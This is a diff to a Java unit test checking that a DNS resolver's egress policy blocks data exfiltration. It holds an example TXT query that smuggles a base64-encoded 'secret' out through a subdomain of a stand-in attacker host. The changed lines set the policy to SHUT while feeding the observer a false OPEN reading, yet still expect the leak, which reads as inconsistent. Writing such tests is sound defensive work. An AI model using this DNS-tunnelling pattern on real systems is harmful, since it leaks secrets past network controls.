@@ -11,6 +11,7 @@ import java.io.IOException;
 import java.net.InetAddress;
 import java.time.Duration;
 import java.util.List;
+import java.util.Optional;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -61,8 +62,9 @@ class ResolverPolicyTest {
     assertThat(rcode(rig.ask(SLOT, "c2VjcmV0.good.example", "TXT"))).isEqualTo("NXDOMAIN");
     assertThat(rig.upstream.asked).isEmpty();
     assertThat(rig.slots.rules()).contains("default deny", "dns off");
-    // The same without the guard: the secret is out.
-    rig.slots.set(SLOT, EgressPolicy.OPEN);
+    // The same policy without the guard: the secret is out.
+    rig.slots.set(SLOT, EgressPolicy.SHUT);
+    rig.sees.lie("policy", Optional.of(EgressPolicy.OPEN));
     rig.ask(SLOT, "c2VjcmV0.attacker.example", "TXT");
     assertThat(rig.upstream.asked).contains("udp c2vjcmv0.attacker.example TXT");
   }
